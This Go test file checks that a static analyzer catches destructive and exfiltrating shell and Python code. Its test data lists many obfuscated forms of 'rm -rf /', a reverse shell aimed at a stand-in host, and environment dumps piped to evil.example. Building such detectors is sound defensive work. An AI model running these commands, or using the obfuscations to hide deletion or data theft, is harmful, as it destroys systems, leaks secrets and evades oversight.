package rules

import "testing"

// Ways to hide a removal of the root directory, and whether static analysis detects them.
func TestHiddenRemovalsAreFound(t *testing.T) {
	const rule = "no-root-removal"
	tests := []struct {
		name string
		lang Language
		code string
		want string // hit, undecidable; other: the rule that must report it instead
	}{
		{"a variable", Bash, "x=/\nrm -rf $x", "hit"},
		{"the command in a variable", Bash, `c="rm -rf /"; $c`, "hit"},
		{"the command in pieces", Bash, `a=r; b=m; $a$b -rf /`, "hit"},
		{"a variable set in a branch", Bash, "d=/tmp/x\nif [ -n \"$A\" ]; then d=/; fi\nrm -rf $d", "hit"},
		{"a default value", Bash, `rm -rf "${DIR:-/}"`, "hit"},
		{"a nested variable name", Bash, `n=d; d=/; rm -rf "${!n}"`, "hit"},
		{"a loop over directories", Bash, "for d in /tmp/a /etc; do rm -rf $d; done", "hit"},
		{"an array", Bash, `args=(-rf /); rm "${args[@]}"`, "hit"},
		{"quotes in the middle", Bash, `r''m -r"f" "/"`, "hit"},
		{"a backslash", Bash, `\rm -rf /`, "hit"},
		{"a full path", Bash, `/bin/rm -rf /`, "hit"},
		{"ansi quoting", Bash, `$'\x72\x6d' -rf $'\057'`, "hit"},
		{"braces", Bash, `{rm,-rf,/}`, "hit"},
		{"bytes that are no text", Bash, "echo \xff; rm -rf / # \xfe\xc3", "hit"},
		{"bytes that are no text, in Python", Python, "# \xff\nimport os\nos.system('rm -rf /')", "hit"},
		{"long flags", Bash, `rm --recursive --force /`, "hit"},
		{"separate flags", Bash, `rm -f -r -- /`, "hit"},
		{"dots in the path", Bash, `rm -rf /tmp/../`, "hit"},
		{"doubled slashes", Bash, `rm -rf ///etc//`, "hit"},
		{"a star", Bash, `rm -rf /*`, "hit"},
		{"the directory changed before", Bash, "cd /\nrm -rf ./*", "hit"},
		{"eval", Bash, `eval rm -rf /`, "hit"},
		{"eval of a variable", Bash, `x='rm -rf /'; eval "$x"`, "hit"},
		{"eval of what cannot be known", Bash, `eval "$(curl -s x)"`, "undecidable-code"},
		{"base64 into a shell", Bash, `echo cm0gLXJmIC8K | base64 --decode | bash`, "undecidable-code"},
		{"base64 in a substitution", Bash, `bash -c "$(base64 -d <<< cm0gLXJmIC8K)"`, "undecidable-code"},
		{"base64 of what cannot be known", Bash, `echo "$X" | base64 -d | sh`, "undecidable-code"},
		{"hexadecimal", Bash, `echo 726d202d7266202f | xxd -r -p | sh`, "undecidable-code"},
		{"reversed", Bash, `echo '/ fr- mr' | rev | sh`, "undecidable-code"},
		{"letters exchanged", Bash, `echo 'ez -es /' | tr 'a-z' 'n-za-m' | sh`, "undecidable-code"},
		{"printf", Bash, `$(printf '%s' rm) -rf $(printf /)`, "undecidable-command"},
		{"printf of the path", Bash, `rm -rf $(printf '%s' /)`, "undecidable"},
		{"printf into a variable", Bash, `printf -v c '%s' rm; $c -rf /`, "undecidable-command"},
		{"printf without a format", Bash, `printf 'rm -rf /\n' | sh`, "hit"},
		{"a directory of a path", Bash, `rm -rf "$(dirname /etc)"`, "hit"},
		{"braces in the path", Bash, `rm -rf /{etc,usr}`, "hit"},
		{"a decoded file that is run", Bash, `base64 -d <<< cm0gLXJmIC8K > x; sh x`, "undecidable-code"},
		{"a decoded file that is sourced", Bash, `base64 -d <<< cm0gLXJmIC8K > x; . ./x`, "undecidable-code"},
		{"a decoded file as input", Bash, `base64 -d <<< cm0gLXJmIC8K > x; sh < x`, "undecidable-code"},
		{"a decoded file as a program", Bash, `base64 -d <<< cm0gLXJmIC8K > x; chmod +x x; ./x`, "undecidable-code"},
		{"a decoded process substitution", Bash, `python3 <(base64 -d <<< aW1wb3J0IG9z)`, "undecidable-code"},
		{"a decoded word that is read", Bash, `read c <<< "rm -rf /"; eval "$c"`, "undecidable-code"},
		{"part of a variable", Bash, `x=/etc/passwd; rm -rf "${x%/*}"`, "hit"},
		{"letters of a variable", Bash, `x='mr /'; ${x:1:1}${x:0:1} -rf "${x##* }"`, "hit"},
		{"an operator on what cannot be known", Bash, `rm -rf "${X%/*}"`, "undecidable"},
		{"a substitution in a subscript", Bash, `echo "${a[$(rm -rf /)]}"`, "hit"},
		{"a substitution in an operator", Bash, `echo "${X//a/$(rm -rf /)}"`, "hit"},
		{"a here-document", Bash, "sh <<END\nrm -rf /\nEND", "hit"},
		{"a here-document with a variable", Bash, "d=/\nsh <<END\nrm -rf $d\nEND", "hit"},
		{"a here-string", Bash, `bash <<< "rm -rf /"`, "hit"},
		{"a file written and run", Bash, "echo 'rm -rf /' > x.sh\nchmod +x x.sh\n./x.sh", "hit"},
		{"a file written by cat and sourced", Bash, "cat > x <<E\nrm -rf /\nE\nsource x", "hit"},
		{"a file through tee", Bash, "echo 'rm -rf /' | tee x.sh\nsh x.sh", "hit"},
		{"a process substitution", Bash, `source <(echo rm -rf /)`, "hit"},
		{"an alias", Bash, "alias l='rm -rf'\nl /", "hit"},
		{"a function", Bash, "wipe() { rm -rf \"$1\"; }\nwipe /", "hit"},
		{"a function that is only declared", Bash, "wipe() { rm -rf /; }", "hit"},
		{"positional parameters", Bash, "set -- -rf /\nrm \"$@\"", "hit"},
		{"a trap", Bash, `trap 'rm -rf /' EXIT`, "hit"},
		{"xargs", Bash, `echo / | xargs rm -rf`, "hit"},
		{"xargs with a place", Bash, `printf '/\n' | xargs -I{} rm -rf {}`, "hit"},
		{"xargs of what cannot be known", Bash, `cat list | xargs rm -rf`, "undecidable"},
		{"find with exec", Bash, `find / -type f -exec rm -rf {} +`, "hit"},
		{"find with delete", Bash, `find /etc -delete`, "hit"},
		{"sudo with flags", Bash, `sudo -n -u root -- rm -rf /`, "hit"},
		{"env", Bash, `env -i A=1 rm -rf /`, "hit"},
		{"several wrappers", Bash, `nohup nice -n 5 timeout 10 rm -rf /`, "hit"},
		{"busybox", Bash, `busybox rm -rf /`, "hit"},
		{"shell in shell", Bash, `sh -c "bash -c 'rm -rf /'"`, "hit"},
		{"variables across shells", Bash, `export D=/; sh -c 'rm -rf "$D"'`, "hit"},
		{"arguments across shells", Bash, `sh -c 'rm -rf "$1"' x /`, "hit"},
		{"a background job", Bash, `(rm -rf / &)`, "hit"},
		{"a substitution in a test", Bash, `[[ -n "$(rm -rf /)" ]]`, "hit"},
		{"a substitution in arithmetic", Bash, `echo $(( $(rm -rf / ; echo 1) + 1 ))`, "hit"},
		{"before a syntax error", Bash, "rm -rf /\nif true; then", "hit"},
		{"python in bash", Bash, `python3 -c "import shutil; shutil.rmtree('/')"`, "hit"},
		{"python from a here-document", Bash, "python3 - <<E\nimport os\nos.system('rm -rf /')\nE", "hit"},
		{"bash in python in bash", Bash, `python3 -c "import os; os.system('bash -c \"rm -rf /\"')"`, "hit"},
		{"a name that cannot be known", Bash, `"$X" -rf /`, "undecidable-command"},
		{"a path that cannot be known", Bash, `rm -rf "$X"`, "undecidable"},
		{"a path that may be empty", Bash, `rm -rf "$X/"*`, "undecidable"},

		{"os.system", Python, `import os; os.system("rm -rf /")`, "hit"},
		{"an import under another name", Python, "import os as o\no.system('rm -rf /')", "hit"},
		{"a function under another name", Python, "from os import system as s\ns('rm -rf /')", "hit"},
		{"everything imported", Python, "from os import *\nsystem('rm -rf /')", "hit"},
		{"a function in a variable", Python, "import os\nf = os.system\nf('rm -rf /')", "hit"},
		{"getattr", Python, "import os\ngetattr(os, 'sys' + 'tem')('rm -rf /')", "hit"},
		{"__import__", Python, `__import__("os").system("rm -rf /")`, "hit"},
		{"importlib", Python, "import importlib\nimportlib.import_module('shutil').rmtree('/')", "hit"},
		{"sys.modules", Python, "import sys, os\nsys.modules['os'].system('rm -rf /')", "hit"},
		{"a list of arguments", Python, "import subprocess\nsubprocess.run(['rm', '-rf', '/'])", "hit"},
		{"a shell", Python, "import subprocess\nsubprocess.Popen('rm -rf /', shell=True)", "hit"},
		{"a list through a variable", Python, "import subprocess\ncmd = ['rm']\ncmd += ['-rf', '/']\nsubprocess.call(cmd)", "hit"},
		{"split", Python, "import subprocess\nsubprocess.check_call('rm -rf /'.split())", "hit"},
		{"execvp", Python, "import os\nos.execvp('rm', ['rm', '-rf', '/'])", "hit"},
		{"execlp", Python, "import os\nos.execlp('rm', 'rm', '-rf', '/')", "hit"},
		{"an f-string", Python, "import os\nd = '/'\nos.system(f'rm -rf {d}')", "hit"},
		{"a percent", Python, "import os\nos.system('rm -rf %s' % '/')", "hit"},
		{"format", Python, "import os\nos.system('{} -rf {}'.format('rm', '/'))", "hit"},
		{"join", Python, "import os\nos.system(' '.join(['rm', '-rf', '/']))", "hit"},
		{"chr", Python, "import os\nos.system(''.join([chr(114), chr(109)]) + ' -rf /')", "undecidable-command"},
		{"chr in a comprehension", Python, "import os\nos.system(''.join(chr(c) for c in [114, 109, 32, 45, 114, 102, 32, 47]))", "undecidable-code"},
		{"reversed text", Python, "import os\nos.system('/ fr- mr'[::-1])", "hit"},
		{"base64 in python", Python, "import base64, os\nos.system(base64.b64decode('cm0gLXJmIC8=').decode())", "undecidable-code"},
		{"rot13", Python, "import codecs, os\nos.system(codecs.decode('ez -es /', 'rot13'))", "undecidable-code"},
		{"hexadecimal in python", Python, "import os\nos.system(bytes.fromhex('726d202d7266202f').decode())", "undecidable-code"},
		{"exec", Python, `exec("import os\nos.system('rm -rf /')")`, "hit"},
		{"eval in python", Python, `eval("__import__('os').system('rm -rf /')")`, "hit"},
		{"exec of base64", Python, "import base64\nexec(base64.b64decode('aW1wb3J0IHNodXRpbDsgc2h1dGlsLnJtdHJlZSgnLycp'))", "undecidable-code"},
		{"exec of what cannot be known", Python, "exec(open('x').read())", "undecidable-code"},
		{"a function of the code", Python, "import shutil\ndef wipe(p):\n    shutil.rmtree(p)\nwipe('/')", "hit"},
		{"a lambda", Python, "import os\n(lambda c: os.system(c))('rm -rf /')", "hit"},
		{"a default argument", Python, "import shutil\ndef wipe(p='/'):\n    shutil.rmtree(p)\nwipe(p='/')", "hit"},
		{"a method", Python, "import shutil\nclass A:\n    def go(self):\n        shutil.rmtree('/')\nA().go()", "hit"},
		{"a loop in python", Python, "import shutil\nfor d in ['/tmp', '/usr']:\n    shutil.rmtree(d, ignore_errors=True)", "hit"},
		{"a branch in python", Python, "import shutil\nd = '/tmp/x'\nif x:\n    d = '/'\nshutil.rmtree(d)", "hit"},
		{"map", Python, "import shutil\nlist(map(shutil.rmtree, ['/']))", "hit"},
		{"pathlib", Python, "import shutil\nfrom pathlib import Path\nshutil.rmtree(Path('/') / 'etc')", "hit"},
		{"os.path.join", Python, "import shutil, os\nshutil.rmtree(os.path.join('/', 'usr'))", "hit"},
		{"inside try", Python, "import shutil\ntry:\n    shutil.rmtree('/')\nexcept Exception:\n    pass", "hit"},
		{"inside a with", Python, "import shutil, contextlib\nwith contextlib.suppress(OSError):\n    shutil.rmtree('/')", "hit"},
		{"python that runs python", Python, "import subprocess, sys\nsubprocess.run([sys.executable, '-c', 'import shutil; shutil.rmtree(\"/\")'])", "hit"},
		{"a path from outside", Python, "import shutil, sys\nshutil.rmtree(sys.argv[1])", "undecidable"},
		{"a command from outside", Python, "import os\nos.system(input())", "undecidable-code"},
		{"before a syntax error in python", Python, "import os\nos.system('rm -rf /')\nprint(", "undecidable"},
	}
	a := defaultAnalyzer(t, "")
	for _, test := range tests {
		t.Run(test.name, func(t *testing.T) {
			findings := check(t, a, test.lang, test.code)
			want := test.want
			var got string
			if want == "hit" || want == "undecidable" {
				got = outcome(findings, rule)
			} else if outcome(findings, ruleName(want)) == "undecidable" {
				got = want
			}
			if got != want {
				t.Errorf("%s\nwant %s, got %q from %v", test.code, want, got, findings)
			}
		})
	}
}

// Cases from trials: code that must not be reported, and code that must be reported as a hit or as undecidable.
func TestVerdictsOfTheDefaultRules(t *testing.T) {
	tests := []struct {
		rule ruleName
		want string // hit, miss, undecidable
		lang Language
		code string
	}{
		{"listening", "miss", Bash, "python3 -m http.server --bind 127.0.0.1 8000"},
		{"listening", "miss", Bash, "python3 -m http.server 8000 --bind=localhost"},
		{"listening", "hit", Bash, "python3 -m http.server -d /srv"},
		{"listening", "hit", Bash, "nc -l -p 8080"},
		{"listening", "miss", Python, "import http.server as h\nh.HTTPServer(('127.0.0.1', 8000), h.SimpleHTTPRequestHandler).serve_forever()"},
		{"listening", "miss", Python, "import socket\nwith socket.socket() as s:\n    s.bind(('127.0.0.1', 0))\n    s.listen()"},
		{"listening", "miss", Python, "import socket\ns = socket.socket(socket.AF_INET6)\ns.bind(('::1', 0))"},
		{"listening", "hit", Python, "import socket\ns = socket.socket()\ns.bind(('0.0.0.0', 0))"},
		{"listening", "hit", Python, "import socket\ns = socket.socket()\ns.bind((host, 0))"},
		{"no-reverse-shell", "miss", Bash, "exec 3<>/dev/tcp/127.0.0.1/8080; echo hi >&3"},
		{"no-reverse-shell", "miss", Bash, "echo > /dev/tcp/localhost/5432"},
		{"no-reverse-shell", "hit", Bash, "echo > /dev/tcp/$HOST/5432"},
		{"no-reverse-shell", "hit", Bash, "cat < /dev/tcp/10.0.0.1/80"},
		{"no-reverse-shell", "hit", Bash, "bash -i >& /dev/tcp/127.evil.example/4444 0>&1"},
		{"unsafe-loading", "miss", Python, "import pickle\nwith open('a.pkl', 'wb') as f:\n    pickle.dump({}, f)\nwith open('a.pkl', 'rb') as f:\n    print(pickle.load(f))"},
		{"unsafe-loading", "miss", Python, "import pickle, io\nb = io.BytesIO()\npickle.dump(1, b)\npickle.loads(b.getvalue())"},
		{"unsafe-loading", "miss", Python, "import pickle\nfrom pathlib import Path\nPath('a').write_bytes(pickle.dumps(1))\npickle.loads(Path('a').read_bytes())"},
		{"unsafe-loading", "undecidable", Python, "import pickle\npickle.load(open('of-an-earlier-cell.pkl', 'rb'))"},
		{"unsafe-loading", "undecidable", Python, "import pickle, sys\npickle.dump(x, open(sys.argv[1], 'wb'))\npickle.load(open(sys.argv[2], 'rb'))"},
		{"unsafe-loading", "hit", Python, "import pickle, urllib.request\nurllib.request.urlretrieve(u, 'm.pkl')\npickle.load(open('m.pkl', 'rb'))"},
		{"unsafe-loading", "hit", Python, "import pickle, io\nb = io.BytesIO()\nb.write(answer)\npickle.loads(b.getvalue())"},
		{"unsafe-loading", "hit", Python, "import pickle\npickle.loads(sock.recv(9))"},

		{"no-root-removal", "hit", Python, "import os\nfor d, _, fs in os.walk('/'):\n    for f in fs:\n        try:\n            os.unlink(os.path.join(d, f))\n        except OSError:\n            pass"},
		{"no-root-removal", "hit", Python, "import os\nfor d, ds, _ in os.walk('/etc', topdown=False):\n    os.rmdir(d)"},
		{"no-root-removal", "undecidable", Python, "import os\nfor d, _, fs in os.walk('/'):\n    for f in fs:\n        if f.endswith('.pyc'):\n            os.remove(d + '/' + f)"},
		{"no-root-removal", "undecidable", Python, "import os, sys\nfor d, _, fs in os.walk(sys.argv[1]):\n    for f in fs:\n        os.remove(os.path.join(d, f))"},
		{"no-root-removal", "miss", Python, "import os\nfor d, _, fs in os.walk('/tmp/x'):\n    for f in fs:\n        os.remove(os.path.join(d, f))"},
		{"no-root-removal", "hit", Python, "from pathlib import Path\nfor p in Path('/').rglob('*'):\n    if p.is_file():\n        p.unlink()"},
		{"no-root-removal", "hit", Python, "from pathlib import Path\n[p.unlink() for p in sorted(Path('/').glob('**/*'))]"},
		{"no-root-removal", "undecidable", Python, "from pathlib import Path\nfor p in Path('/').rglob('*'):\n    if p.suffix != '.tmp':\n        continue\n    p.unlink()"},
		{"no-root-removal", "miss", Python, "from pathlib import Path\nfor p in Path('build').rglob('*'):\n    p.unlink()"},
		{"no-root-removal", "hit", Python, "import os\nos.chdir('/')\nfor n in os.listdir():\n    os.remove(n)"},
		{"no-root-removal", "hit", Python, "import os, glob\nlist(map(os.remove, glob.glob('/*')))"},
		{"no-root-removal", "hit", Python, "import os, glob\nif __name__ == '__main__':\n    list(map(os.remove, glob.glob('/*')))"},
		{"no-root-removal", "hit", Python, "import os\nfor d, _, fs in os.walk('/'):\n    while busy():\n        if retry():\n            continue\n        break\n    for f in fs:\n        os.remove(os.path.join(d, f))"},
		{"no-root-removal", "undecidable", Python, "import os, glob\ndef clean(p):\n    if p.endswith('.pyc'):\n        os.remove(p)\n[clean(p) for p in glob.glob('/*')]"},
		{"no-root-removal", "miss", Python, "import os, glob\nlogs = sorted(glob.glob('/var/log/*'))\nif len(logs) > 9:\n    os.remove(logs[0])"},
		{"no-home-removal", "miss", Python, "import os\nfor d, ds, fs in os.walk('.', topdown=False):\n    try:\n        os.rmdir(d)\n    except OSError:\n        pass"},
		{"no-home-removal", "miss", Python, "from pathlib import Path\nfor p in Path.home().rglob('*'):\n    if p.is_dir():\n        p.rmdir()"},
		{"no-root-removal", "miss", Python, "import os\nos.remove('/etc/hosts')"},
		{"no-root-removal", "hit", Python, "import os, shutil\nshutil.rmtree(os.path.abspath(os.sep))"},
		{"no-root-removal", "hit", Python, "from os import sep\nfrom shutil import rmtree\nrmtree(sep)"},
		{"no-root-removal", "hit", Python, "import os\nclass P:\n    def __reduce__(self):\n        return os.system, ('rm -rf /',)"},
		{"undecidable-code", "undecidable", Python, "class P:\n    def __reduce__(self):\n        return (exec, (payload,))"},
		{"undecidable-code", "miss", Python, "class P:\n    def __reduce__(self):\n        return (P, (self.x, self.y))"},
		{"no-root-removal", "hit", Bash, `awk 'BEGIN { system("rm -rf /") }'`},
		{"no-root-removal", "hit", Bash, `awk '{ print $1 | "rm -rf /" }' list`},
		{"no-root-removal", "hit", Bash, `awk 'BEGIN { "rm -rf /" | getline x }'`},
		{"no-root-removal", "hit", Bash, `awk '/^"/ { system("rm -rf /") }' list`},
		{"no-root-removal", "hit", Bash, `awk '{ gsub(/[/"]/, ""); n = $1 / 2; i++ / 2; system("rm -rf /") }' list`},
		{"no-root-removal", "hit", Bash, "awk '# say \"hi\nBEGIN { system(\"rm -rf /\") }'"},
		{"undecidable-code", "miss", Bash, `awk '/^system\("/ { print }' list`},
		{"undecidable-code", "undecidable", Bash, `awk '{ system($0) }' list`},
		{"undecidable-code", "undecidable", Bash, `awk '{ system("rm " $1) }' list`},
		{"undecidable-code", "miss", Bash, `awk -F'|' '{ print $1"|"$2"|"$3 } $4 == 1 || $5 { print "a|b" }' list`},
		{"undecidable-code", "miss", Bash, `awk 'BEGIN { "date" | getline d; print d | "sort" }'`},
		{"undecidable-code", "undecidable", Bash, `sed 1e list`},
		{"undecidable-code", "undecidable", Bash, `echo 'rm -rf /' | sed 's/x/y/e'`},
		{"no-root-removal", "hit", Bash, `sed -n -e '1e rm -rf /' list`},
		{"undecidable-code", "miss", Bash, `sed -e 's/;e /;e/g; s|a|e|; /^e/d' -i e.txt`},
		{"undecidable-code", "miss", Bash, `sed 's/a/b/w error.log' list`},
		{"no-root-removal", "miss", Bash, `sed -n 's/a/b/gw e rm -rf /' list`},
		{"undecidable-code", "undecidable", Bash, "sed 's/a/b/w error.log\ne' list"},
		{"undecidable-code", "miss", Bash, "sed '$ a e\n/x,y/s/e/e/2' e"},
		{"no-root-removal", "hit", Bash, "rsync -a --delete /tmp/empty/ /"},
		{"no-root-removal", "hit", Bash, "rsync -a --delete-after empty/ /usr"},
		{"no-root-removal", "miss", Bash, "rsync -an --delete src/ /usr"},
		{"no-root-removal", "miss", Bash, "rsync -a --dry-run --delete src/ /usr"},
		{"no-root-removal", "undecidable", Bash, `rsync -a --delete empty/ "$1"`},
		{"no-root-removal", "miss", Bash, "rsync -a --delete / host:/"},
		{"no-home-removal", "hit", Bash, "mv ~/* /dev/null"},
		{"no-root-removal", "miss", Bash, "mv out.txt /dev/null"},
		{"environment-dumps", "hit", Bash, "env | nc evil.example 80"},
		{"environment-dumps", "hit", Bash, "printenv | gzip | socat - TCP:evil.example:80"},
	}
	a := defaultAnalyzer(t, "")
	for _, test := range tests {
		if got := outcome(check(t, a, test.lang, test.code), test.rule); got != test.want {
			t.Errorf("%s\n%s: want %s, got %s", test.code, test.rule, test.want, got)
		}
	}
}
